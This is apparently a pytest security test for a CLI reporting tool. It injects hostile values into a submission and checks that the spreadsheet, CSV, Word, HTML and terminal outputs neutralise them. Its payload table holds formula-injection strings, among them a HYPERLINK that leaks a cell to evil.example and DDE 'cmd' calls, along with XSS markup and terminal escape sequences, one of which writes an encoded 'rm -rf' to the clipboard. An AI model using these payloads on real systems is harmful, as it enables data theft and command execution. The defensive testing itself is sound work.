"""Every place a submission's text reaches an output, tried with a table of hostile values.

One copy of the sample has every free-text field a report or a command shows (the PCT's
name, the local outcome's name and definition, outcome rationales, competency and
governance signposts, self-assessment text) replaced by a hostile value: a formula behind
each control-character and bidi prefix, markup, and values at every length limit. The
real CLI then writes every format and prints every view; each output is checked with the
reading library of its format (openpyxl, python-docx, csv), not with wcc's own guards.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import shutil
import subprocess
import sys
import tomllib
import unicodedata
from pathlib import Path

import docx
import openpyxl
import pytest
import tomli_w

REPO = Path(__file__).resolve().parents[2]

# Prefixes that hid a formula from the old guard (it looked before it cleaned), and
# characters a spreadsheet skips before it looks.
PREFIXES = ["", "\x01", "\u202a", "\u202e", "\x1b[0m", "\x9b0m", "\x1b]52;c;cm0gLXJm\x07", "\x07", " ", "\t",
            "\u200b", "\ufeff", "\u2066", "\x00", "\r\n", "\u00a0", "\x1b", "\x7f"]
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"p.4")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\uff1dHYPERLINK(\"http://evil.example\")"]
MARKUP = '<img src=x onerror=alert(1)><script>alert("wcc")</script>'
HOSTILE = [p + f for p, f in itertools.product(PREFIXES, FORMULAS)] + [MARKUP]
# What no output may hold: C0 controls but tab, newline and CR; DEL; C1; bidi formatting.
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
TERMINAL_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
FORMULA_START = set("=+-@\uff1d\uff0b\uff0d\uff20")
LONG = 40_000  # over Excel's 32,767 characters in a cell


def wcc(*args):
    return subprocess.run([sys.executable, "-m", "wcc_core.cli.entry", *map(str, args)], capture_output=True,
                          text=True, cwd=REPO, timeout=600)


def first_shown(text: str) -> str:
    """The first character a spreadsheet would look at: white space and format characters skipped."""
    return next((c for c in text if not (c.isspace() or unicodedata.category(c) in ("Cf", "Cc", "Zs"))), "")


def poison(data: dict) -> int:
    """Put the hostile values into every free-text field of a parsed submission.toml; how many were placed."""
    values = itertools.cycle(HOSTILE)
    placed = 0

    def hostile() -> str:
        nonlocal placed
        placed += 1
        return next(values)

    # The name is in every format's title and heading: markup and a formula, over 255 characters.
    data["pct"]["name"] = "\u202e\x1b]0;x\x07=HYPERLINK(\"http://evil.example\")" + MARKUP + " Longshire" * 40
    for section in ("competencies", "governance"):
        for table in data.get(section, {}).values():
            for sub in ([table] + [v for v in table.values() if isinstance(v, dict)]):
                if isinstance(sub.get("signposts"), list):
                    sub["signposts"] = [hostile() for _ in sub["signposts"]] + [hostile()]
                for key in ("actions", "impact", "commentary"):
                    if isinstance(sub.get(key), str):
                        sub[key] = hostile() + " " + sub[key]
    for i, outcome in enumerate(data.get("outcomes", [])):
        outcome["rationale"] = hostile() + (" steady" * (LONG // 7) if i == 0 else "")
        if "name" in outcome:
            outcome["name"] = hostile()
            outcome["definition"] = hostile()
    return placed


@pytest.fixture(scope="module")
def outputs(sample, index_dir, shared_results, tmp_path_factory):
    """Every output of the poisoned copy: the report files and the printed views."""
    root = tmp_path_factory.mktemp("hostile-report")
    folder = root / "exampleshire"
    shutil.copytree(sample, folder, ignore=shutil.ignore_patterns(".wcc"))
    shutil.copytree(index_dir, root / "index")
    data = tomllib.loads((folder / "submission.toml").read_text(encoding="utf-8"))
    assert poison(data) >= len(HOSTILE)  # every hostile value is used at least once
    (folder / "submission.toml").write_text(tomli_w.dumps(data), encoding="utf-8")
    index = ["--index-dir", root / "index"]
    runs = {
        "report": wcc("report", folder, "--out", root / "out", "--no-review", "--format",
                      "html,docx,xlsx,json,text", *index),
        "signposts csv": wcc("signposts", folder, "--format", "csv", *index),
        "signposts": wcc("signposts", folder, *index),
        "assess": wcc("assess", folder, "--no-review", *index),
        "assess json": wcc("assess", folder, "--no-review", "--format", "json", *index),
        "validate": wcc("validate", folder),
    }
    files = {p.suffix[1:]: p for p in (root / "out").iterdir() if not p.name.startswith(".")}
    return runs, files


def test_every_command_ran_to_the_end(outputs):
    runs, files = outputs
    for name, run in runs.items():
        assert run.returncode in (0, 1) and "Traceback" not in run.stderr, (name, run.stderr[-2000:])
    assert len(files) == 5 and set(files) >= {"html", "docx", "xlsx", "json"}, files


def test_no_xlsx_cell_is_a_formula_holds_a_control_character_or_passes_excels_limits(outputs):
    workbook = openpyxl.load_workbook(outputs[1]["xlsx"])
    hostile_cells = 0
    for sheet in workbook.worksheets:
        assert len(sheet.title) <= 31 and not set(sheet.title) & set(":\\/?*[]")
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert first_shown(cell.value) not in FORMULA_START, (sheet.title, cell.coordinate, cell.value)
                    assert not CONTROL.search(cell.value), (sheet.title, cell.coordinate, cell.value[:80])
                    assert len(cell.value) <= 32_767
                    hostile_cells += "HYPERLINK" in cell.value or "cmd|" in cell.value
    assert hostile_cells >= 23  # the values reached the workbook (23 live formulas before the fix), as text
    assert len(workbook.properties.title) <= 255 and not CONTROL.search(workbook.properties.title)


def test_no_signposts_csv_cell_is_a_formula_or_holds_a_control_character(outputs):
    run = outputs[0]["signposts csv"]
    rows = list(csv.reader(io.StringIO(run.stdout)))
    cells = [c for row in rows[1:] for c in row]
    assert sum("HYPERLINK" in c or "cmd|" in c for c in cells) >= len(FORMULAS)
    for cell in cells:
        assert first_shown(cell) not in FORMULA_START, cell
        assert not CONTROL.search(cell) and len(cell) <= 32_767, cell[:80]


def _docx_texts(document) -> list[str]:
    texts = [p.text for p in document.paragraphs]
    for table in document.tables:
        texts += [cell.text for row in table.rows for cell in row.cells]
    return texts


def test_the_word_briefing_holds_no_control_or_bidi_character_and_its_properties_fit(outputs):
    document = docx.Document(outputs[1]["docx"])
    texts = _docx_texts(document)
    assert any("HYPERLINK" in t for t in texts)
    for text in texts:
        assert not CONTROL.search(text), text[:80]
    props = document.core_properties
    for value in (props.title, props.subject, props.author, props.keywords, props.comments):
        assert len(value or "") <= 255 and not CONTROL.search(value or "")


def test_the_html_report_escapes_markup_and_holds_no_control_or_bidi_character(outputs):
    html = outputs[1]["html"].read_text(encoding="utf-8")
    assert "HYPERLINK" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "<img src=x onerror" not in html and '<script>alert("wcc")' not in html
    assert not CONTROL.search(html), CONTROL.findall(html)[:5]


def test_the_json_report_keeps_the_values_as_data(outputs):
    data = json.loads(outputs[1]["json"].read_text(encoding="utf-8"))
    assert "HYPERLINK" in json.dumps(data)  # JSON is data: a reader escapes for its own output


@pytest.mark.parametrize("view", ["signposts", "assess", "assess json", "validate", "report"])
def test_nothing_printed_holds_a_control_sequence(outputs, view):
    run = outputs[0][view]
    for stream in (run.stdout, run.stderr):
        assert not TERMINAL_CONTROL.search(stream), TERMINAL_CONTROL.findall(stream)[:5]


def test_the_text_report_holds_no_control_sequence(outputs):
    text = next(p for k, p in outputs[1].items() if k not in ("html", "docx", "xlsx", "json")).read_text("utf-8")
    assert "HYPERLINK" in text and not TERMINAL_CONTROL.search(text)
